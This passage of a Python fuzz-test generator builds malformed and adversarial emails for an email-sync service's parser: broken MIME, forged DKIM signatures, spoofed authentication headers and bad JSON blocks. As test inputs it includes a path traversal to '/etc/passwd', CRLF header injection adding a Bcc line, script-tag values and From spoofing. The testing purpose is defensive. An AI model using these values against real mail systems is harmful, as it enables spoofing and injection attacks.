    return _multipart(b, 'multipart/mixed; boundary="nothere"', _with_block(b)), {}


def ms_unterminated(ctx, b):
    body = b"--u\r\n" + _part(_with_block(b)) + b"--u\r\n" + _part(b"second")
    return _multipart(b, 'multipart/alternative; boundary="u"', body), {}


def ms_empty_boundary(ctx, b):
    body = b"--\r\n" + _part(_with_block(b)) + b"----\r\n"
    return _multipart(b, 'multipart/mixed; boundary=""', body), {}


def ms_long_boundary(ctx, b):
    bd = "B" * 500
    body = f"--{bd}\r\n".encode() + _part(_with_block(b)) + f"--{bd}--\r\n".encode()
    return _multipart(b, f'multipart/mixed; boundary="{bd}"', body), {}


def ms_boundary_in_text(ctx, b):
    body = b"--q\r\n" + _part(b"--q is the boundary\r\n--q--\r\n" + _with_block(b)) + b"--q--\r\n"
    return _multipart(b, "multipart/mixed; boundary=q", body), {}


def ms_deep(ctx, b):
    depth = ctx.rng.choice([50, 300, 1500])
    body = b""
    for level in range(depth):
        body += (
            f"--d{level}\r\nContent-Type: multipart/mixed; boundary=d{level + 1}\r\n\r\n".encode()
        )
    body += f"--d{depth}\r\n".encode() + _part(_with_block(b))
    for level in range(depth, -1, -1):
        body += f"--d{level}--\r\n".encode()
    return _multipart(b, "multipart/mixed; boundary=d0", body), {}


def ms_many_parts(ctx, b):
    count = ctx.rng.choice([500, 5000])
    body = b"".join(b"--p\r\n" + _part(b"x") for _ in range(count)) + b"--p--\r\n"
    return _multipart(b, "multipart/mixed; boundary=p", body), {}


def ms_preamble_epilogue(ctx, b):
    body = (
        b"preamble "
        + b.markers[0].encode()
        + b"\r\n--e\r\n"
        + _part(_with_block(b))
        + b"--e--\r\nepilogue "
        + b.markers[0].encode()
        + b"\r\n"
    )
    return _multipart(b, "multipart/mixed; boundary=e", body), {}


def ms_multipart_on_text(ctx, b):
    return _multipart(b, "multipart/mixed; boundary=zz", _with_block(b)), {}


def ms_report(ctx, b):
    body = b"--r\r\n" + _part(b"delivery failed") + b"--r--\r\n"
    return _multipart(b, "multipart/report; report-type=delivery-status; boundary=r", body), {}


def ms_content_type_garbage(ctx, b):
    return _multipart(b, ';;;;===""\\;; /', _with_block(b)), {}


def ms_disposition_junk(ctx, b):
    e = b.edit().set("Content-Disposition", "attachment; filename*=x''%ZZ; ;;;==\"")
    return e.bytes(), {}


MIME_STRUCTURE = [
    ms_no_boundary_param,
    ms_boundary_unused,
    ms_unterminated,
    ms_empty_boundary,
    ms_long_boundary,
    ms_boundary_in_text,
    ms_deep,
    ms_many_parts,
    ms_preamble_epilogue,
    ms_multipart_on_text,
    ms_report,
    ms_content_type_garbage,
    ms_disposition_junk,
]


def dk_valid(ctx, b):
    signed = sign(ctx, b.raw, b.agency.domain)
    return signed or b.raw, {"signed": signed is not None}


def dk_body_changed(ctx, b):
    signed = sign(ctx, b.raw, b.agency.domain) or b.raw
    return signed.replace(b"Congratulations", b"Condolences"), {"signed": True}


def dk_from_changed(ctx, b):
    signed = sign(ctx, b.raw, b.agency.domain) or b.raw
    e = Editor(signed).set("From", f"Mallory <mallory@{b.agency.domain}>")
    return e.bytes(), {"signed": True}


def dk_header_added_above(ctx, b):
    signed = sign(ctx, b.raw, b.agency.domain) or b.raw
    return b"From: Mallory <m@evil.test>\r\n" + signed, {"signed": True, "address_defect": True}


def dk_unknown_selector(ctx, b):
    signed = sign(ctx, b.raw, b.agency.domain, "nokey")
    return signed or b.raw, {"signed": True}


def dk_bad_key_record(ctx, b):
    signed = sign(ctx, b.raw, b.agency.domain, ctx.rng.choice(["garbage", "revoked", "huge"]))
    return signed or b.raw, {"signed": True}


def dk_other_domain(ctx, b):
    signed = sign(ctx, b.raw, "evil.test")
    return signed or b.raw, {"signed": True}


def _junk_signature(ctx, b) -> bytes:
    options = [
        b"v=1; a=rsa-sha256; d=" + b.agency.domain.encode() + b"; s=s1; b=!!!notbase64!!!",
        b"v=1; a=rsa-sha256; d=" + b.agency.domain.encode() + b"; s=s1; h=from; bh=; b=",
        b"completely unparseable ;;;; ===",
        b"v=1; a=rsa-md5; d=acme.test; s=../../../etc/passwd; h=from; bh=x; b=y",
        b"v=1; a=rsa-sha256; d=acme.test; s=" + b"s" * 300 + b"; h=from; bh=x; b=y",
        b"v=1; d=acme.test\x00; s=s1; b=" + base64.b64encode(ctx.rng.randbytes(128)),
        b"v=1; a=rsa-sha256; l=999999999999999; d=acme.test; s=s1; h=from:to; bh=AA==; b=AA==",
        b"v=1; a=ed25519-sha256; d=acme.test; s=s1; h=from; bh=AA==; b=" + b"A" * 50_000,
        b"v=1; a=rsa-sha256; d=\xc3\xa0cme.test; s=s1; h=from; bh=AA==; b=AA==",
    ]
    return ctx.rng.choice(options)


def dk_junk(ctx, b):
    e = b.edit()
    e.fields.insert(0, b"DKIM-Signature: " + _junk_signature(ctx, b))
    return e.bytes(), {"transport": "raw", "signed": True}


def dk_many_signatures(ctx, b):
    e = b.edit()
    for _ in range(ctx.rng.choice([5, 60])):
        e.fields.insert(0, b"DKIM-Signature: " + _junk_signature(ctx, b))
    raw = sign(ctx, e.bytes(), b.agency.domain) or e.bytes()
    return raw, {"transport": "raw", "signed": True}


def dk_from_not_signed(ctx, b):
    # dkimpy will not sign without From, so take From out of h= afterwards (it then fails).
    signed = sign(ctx, b.raw, b.agency.domain) or b.raw
    return signed.replace(b"h=from:", b"h=", 1).replace(b"h=From:", b"h=", 1), {"signed": True}


def dk_length_tag_appended(ctx, b):
    import dkim

    key = ctx.keys.get(b.agency.domain)
    if key is None:
        return b.raw, {}
    signature = dkim.sign(
        b.raw,
        key.selector.encode(),
        key.domain.encode(),
        key.private_pem,
        include_headers=[b"from", b"to", b"subject"],
        length=True,
    )
    return signature + b.raw + b"\r\nAppended after signing " + b.markers[0].encode() + b"\r\n", {
        "signed": True
    }


DKIM = [
    dk_valid,
    dk_body_changed,
    dk_from_changed,
    dk_header_added_above,
    dk_unknown_selector,
    dk_bad_key_record,
    dk_other_domain,
    dk_junk,
    dk_many_signatures,
    dk_from_not_signed,
    dk_length_tag_appended,
]

TRUSTED_AUTHSERV = "mx.relay.test"


def _authres(b: Base, value: str) -> bytes:
    e = b.edit()
    e.fields.insert(0, b"Authentication-Results: " + value.encode("utf-8", "surrogateescape"))
    return e.bytes()


def ar_untrusted_pass(ctx, b):
    domain = b.agency.domain
    value = f"mx.evil.test; dmarc=pass header.from={domain}; dkim=pass header.d={domain}"
    return _authres(b, value), {}


def ar_trusted_pass(ctx, b):
    return _authres(b, f"{TRUSTED_AUTHSERV}; dmarc=pass header.from={b.agency.domain}"), {}


def ar_trusted_misaligned(ctx, b):
    return _authres(b, f"{TRUSTED_AUTHSERV}; dmarc=pass header.from=evil.test"), {}


def ar_trusted_lookalike_id(ctx, b):
    value = f"{TRUSTED_AUTHSERV}.evil.test; dmarc=pass header.from={b.agency.domain}"
    return _authres(b, value), {}


def ar_garbage(ctx, b):
    value = ctx.rng.choice([";;;;", "=", "mx.relay.test", "mx.relay.test; dmarc", "(((((("])
    return _authres(b, value), {}


def ar_nested_comments(ctx, b):
    depth = ctx.rng.choice([100, 2000])
    value = f"{TRUSTED_AUTHSERV}; dmarc=pass " + "(" * depth + "x" + ")" * depth
    return _authres(b, value + f" header.from={b.agency.domain}"), {}


def ar_many(ctx, b):
    e = b.edit()
    for i in range(ctx.rng.choice([50, 400])):
        e.fields.insert(0, f"Authentication-Results: relay{i}.test; dmarc=fail".encode())
    return e.bytes(), {}


def ar_huge(ctx, b):
    return _authres(b, f"{TRUSTED_AUTHSERV}; dkim=pass header.d=" + "a" * 20_000), {}


def ar_unicode_and_nul(ctx, b):
    value = f"{TRUSTED_AUTHSERV}; dmarc=pass header.from=\u0430cme.test; dkim=pass\x00 header.d=x"
    return _authres(b, value), {"transport": "raw"}


def ar_case_and_version(ctx, b):
    value = (
        f"{TRUSTED_AUTHSERV.upper()} 1; DMARC=PASS (p=reject) header.from={b.agency.domain.upper()}"
    )
    return _authres(b, value), {}


def ar_below_untrusted(ctx, b):
    e = b.edit()
    e.fields.insert(0, f"Authentication-Results: {TRUSTED_AUTHSERV}; dmarc=fail".encode())
    passed = f"{TRUSTED_AUTHSERV}; dmarc=pass header.from={b.agency.domain}"
    e.fields.insert(1, f"Authentication-Results: {passed}".encode())
    return e.bytes(), {}


AUTH_RESULTS = [
    ar_untrusted_pass,
    ar_trusted_pass,
    ar_trusted_misaligned,
    ar_trusted_lookalike_id,
    ar_garbage,
    ar_nested_comments,
    ar_many,
    ar_huge,
    ar_unicode_and_nul,
    ar_case_and_version,
    ar_below_untrusted,
]


def _text_block(b: Base, block: str | bytes) -> bytes:
    block = block.encode("utf-8", "surrogatepass") if isinstance(block, str) else block
    e = b.edit().set("Content-Type", "text/plain; charset=utf-8")
    e.set("Content-Transfer-Encoding", "8bit")
    e.body = (
        b.extra["text"].encode()
        + b"-----BEGIN EMAILSYNC-----\r\n"
        + block
        + b"\r\n-----END EMAILSYNC-----\r\n"
    )
    return e.bytes()


BAD_JSON = [
    '{"placement_ref": "PL-1", ',
    "[1, 2, 3]",
    "42",
    '"just a string"',
    "null",
    "{" * 5000 + "}" * 5000,
    "[" * 100_000,
    '{"placement_ref": "' + "p" * 20_000 + '"}',
    '{"recipients": "not a list"}',
    '{"recipients": [1, "x", null, {"email": 5}, {"email": "a@b.test", "role": "ceo"}]}',
    '{"placement_ref": 1.5e999, "role": ["candidate"], "recruiter_email": {"a": 1}}',
    '{"placement_ref": NaN, "recipient_name": Infinity}',
    '{"placement_ref": "PL\\u0000X", "recipient_name": "Nul\\u0000Name"}',
    '{"placement_ref": "PL\\ud800X", "recipient_name": "Zo\\udcffe"}',
    '{"recipients": [{"email": "x@y.test", "name": "\\ud83d"}]}',
    '{"recruiter_email": "evil@evil.test, sam@acme.test"}',
    '{"recruiter_email": "sam@acme.test\\r\\nBcc: x@evil.test"}',
    '{"role": "candidate", "role": "client", "placement_ref": true}',
    '{"recipient_name": "' + "n" * 500 + '"}',
    '{"placement_ref": "<script>alert(1)</script>", "recipient_name": "%s%n{0}"}',
]


def sd_bad_json(ctx, b):
    return _text_block(b, BAD_JSON[ctx.rng.randrange(len(BAD_JSON))]), {}


def sd_many_recipients(ctx, b):
    entries = [{"email": f"r{i}@x.test", "role": "candidate"} for i in range(5000)]
    return _text_block(b, json.dumps({"recipients": entries})[:15000] + "]}"), {}


def sd_unterminated(ctx, b):
    e = b.edit().set("Content-Type", "text/plain").set("Content-Transfer-Encoding", "7bit")
    e.body = b.extra["text"].encode() + b'-----BEGIN EMAILSYNC-----\r\n{"role": "client"}\r\n'
    return e.bytes(), {}


def sd_quoted_block(ctx, b):
    e = b.edit().set("Content-Type", "text/plain").set("Content-Transfer-Encoding", "7bit")
    e.body = b'> -----BEGIN EMAILSYNC-----\r\n> {"role": "client"}\r\n> -----END EMAILSYNC-----\r\n'
    return e.bytes(), {}


def sd_html_script(ctx, b):
    scripts = [
        '<script type="application/json+emailsync">{&quot;role&quot;: &quot;client&quot;}</script>',
        "<script type=application/json+emailsync>{'role': 'client'}</script>",
        '<script type="application/json+emailsync"><!-- {"role": "client"} --></script>',
        '<script type="application/json+emailsync">' + '{"a":' * 3000 + "</script>",
        '<script type="application/json+emailsync">{"recipient_name": "</script><script>x"}',
        '<SCRIPT TYPE="APPLICATION/JSON+EMAILSYNC">{"placement_ref": "\\ud800"}</SCRIPT>',
    ]
    e = b.edit().set("Content-Type", "text/html; charset=utf-8")
    e.set("Content-Transfer-Encoding", "8bit")
    e.body = (
        f"<html><body><p>{b.markers[0]}</p>{ctx.rng.choice(scripts)}</body></html>\r\n".encode()
    )
    return e.bytes(), {}


def sd_bad_headers(ctx, b):
    e = b.edit()
    options = [
        ("X-EmailSync-Placement", "P" * 500),
        ("X-EmailSync-Placement", "=?utf-8?q?PL=0D=0AInjected:_x?="),
        ("X-EmailSync-Role", "admin"),
        ("X-EmailSync-Role", "candidate\tclient"),
        ("X-EmailSync-Recruiter", "evil@evil.test, sam@acme.test"),
        ("X-EmailSync-Recruiter", "=?utf-8?q?sam=00@acme.test?="),
        ("X-EmailSync-Name", "N" * 1000),
        ("X-EmailSync-Name", _b64word(b"Zo\xed\xa0\x80e")),
        ("X-EmailSync-Name", "<script>alert(1)</script>"),
        ("X-EmailSync-Placement", "=?utf-8?b?" + base64.b64encode(b"\xff\xfe").decode() + "?="),
    ]
    name, value = ctx.rng.choice(options)
    e.drop(name).add(name, value)
    if ctx.rng.random() < 0.3:
        e.duplicate(name, "second-value")
    return e.bytes(), {}


def sd_base64_part(ctx, b):
    block = (
        "-----BEGIN EMAILSYNC-----\r\n"
        + BAD_JSON[ctx.rng.randrange(len(BAD_JSON))]
        + "\r\n-----END EMAILSYNC-----\r\n"
    ).encode("utf-8", "surrogatepass")
    return _single_part(b, "base64", b64_lines(block)), {}


def sd_attached_block(ctx, b):
    block = (
        b'-----BEGIN EMAILSYNC-----\r\n{"role": "client", "placement_ref": "ATTACHED"}\r\n'
        b"-----END EMAILSYNC-----\r\n"
    )
    headers = b'Content-Type: text/plain\r\nContent-Disposition: attachment; filename="x.txt"\r\n'
    return _attach(b, headers, block), {}


def sd_conflict(ctx, b):
    e = Editor(_text_block(b, '{"placement_ref": "BODY-REF", "role": "client"}'))
    e.set("X-EmailSync-Placement", "HEADER-REF").set("X-EmailSync-Role", "candidate")
    return e.bytes(), {}


STRUCTURED = [
    sd_bad_json,
    sd_many_recipients,
    sd_unterminated,
    sd_quoted_block,
    sd_html_script,
    sd_bad_headers,
    sd_base64_part,
    sd_attached_block,
    sd_conflict,
]


# The SMTP conversation itself: each variant names a script the client plays (client.py).
def _session(name, **extra):
    def variant(ctx, b):
        return b.raw, {"transport": "raw", "session": name, **extra}

    variant.__name__ = f"ss_{name}"
    return variant


SMTP_SESSION = [
    _session("pipelined"),
    _session("two_transactions"),
    _session("rset_then_send"),
    _session("lowercase_commands"),
    _session("size_too_big"),
    _session("body_8bitmime", mail_options=("BODY=8BITMIME",)),
    _session("unknown_mail_param"),
    _session("rcpt_nul"),
    _session("too_many_rcpts"),
    _session("postmaster_and_agency"),
    _session("unknown_token"),
    _session("helo_only"),
    _session("noise_commands"),
    _session("long_command"),
    _session("data_without_rcpt"),
    _session("null_sender", mail_from=""),
]


def sample_variants() -> list:
    """Hand-written real-world-shaped samples (tests/fuzz/samples/*.eml), each one variant."""
    variants = []
    for path in sorted(SAMPLES.glob("*.eml")):

        def variant(ctx, b, path=path):
            text = path.read_bytes().replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")
            marker = b.markers[0].encode()
            raw = (
                text.replace(b"{MARKER}", marker)
                .replace(b"{AGENCY}", b.agency.domain.encode())
                .replace(b"{SENDER}", b.sender.encode())
                .replace(b"{N}", str(ctx.rng.randrange(10**9)).encode())
                .replace(b"{DATE}", email.utils.format_datetime(ctx.now).encode())
            )
            return raw, {"allowed": None}

        variant.__name__ = f"sample_{path.stem}"
        variants.append(variant)
    return variants


# family name -> (two-letter code for markers, variants)
FAMILIES: dict[str, tuple[str, list[Variant]]] = {
    "baseline": ("bl", [lambda ctx, b: (b.raw, {})]),
    "encoded_words": ("ew", ENCODED_WORDS),
    "eight_bit": ("eb", EIGHT_BIT),
    "charsets": ("cs", CHARSETS),
    "many_addresses": ("ma", MANY_ADDRESSES),
    "long_lines": ("ll", LONG_LINES),
    "nul_and_controls": ("nc", NUL_AND_CONTROLS),
    "line_endings": ("le", LINE_ENDINGS),
    "header_presence": ("hp", HEADER_PRESENCE),
    "nested_rfc822": ("nr", NESTED_RFC822),
    "huge_headers": ("hh", HUGE_HEADERS),
    "display_names": ("dn", DISPLAY_NAMES),
    "transfer_encoding": ("te", TRANSFER_ENCODING),
    "mime_structure": ("ms", MIME_STRUCTURE),
    "dkim": ("dk", DKIM),
    "auth_results": ("ar", AUTH_RESULTS),
    "structured_data": ("sd", STRUCTURED),
    "smtp_session": ("ss", SMTP_SESSION),
    "samples": ("sa", sample_variants()),
    "hypothesis": ("hy", [hypothesis_variant]),
}

#: Messages per family in the full run (`python -m tests.fuzz.run`): 10,000 in all, less where
#: one message costs a lot (MiB-sized header blocks, 1,000-address headers).
FULL_COUNTS = {
    "baseline": 500,
    "encoded_words": 700,
    "eight_bit": 700,
    "charsets": 600,
    "many_addresses": 220,
    "long_lines": 500,
    "nul_and_controls": 700,
    "line_endings": 700,
    "header_presence": 800,
    "nested_rfc822": 500,
    "huge_headers": 24,
    "display_names": 800,
    "transfer_encoding": 600,
    "mime_structure": 450,
    "dkim": 600,
    "auth_results": 500,
    "structured_data": 800,
    "smtp_session": 400,
    "samples": 100,
    "hypothesis": 1000,
}

#: The deterministic subset in `make test`: every variant of every family at least once.
FAST_COUNTS = {name: max(len(variants), 14) for name, (_, variants) in FAMILIES.items()}
FAST_COUNTS["hypothesis"] = 60
FAST_COUNTS["huge_headers"] = len(HUGE_HEADERS)
FAST_COUNTS["many_addresses"] = len(MANY_ADDRESSES)


def case(family: str, index: int, seed: int, now: datetime, keys: dict) -> Case:
    """Rebuild one case from its family and index."""
    code, variants = FAMILIES[family]
    family_number = list(FAMILIES).index(family)
    rng = random.Random(f"{seed}:{family}:{index}")
    ctx = Context(seed, now, keys, family_number, rng, index)
    serial = (family_number + 1) * 100_000 + index
    marker = marker_for(code, index, rng)
    variant = variants[index % len(variants)]
    agency = AGENCIES["acme"] if family == "dkim" else None
    base = build_base(rng, serial, marker, now, agency)
    raw, kwargs = variant(ctx, base)
    name = getattr(variant, "__name__", "pass_through")
    name = "clean" if name == "<lambda>" else name
    return finish(ctx, family, name, index, base, raw, **kwargs)


def generate(seed: int, counts: dict[str, int], now: datetime, keys: dict):
    """Every case, family by family, in order."""
    for family, count in counts.items():
        for index in range(count):
            yield case(family, index, seed, now, keys)
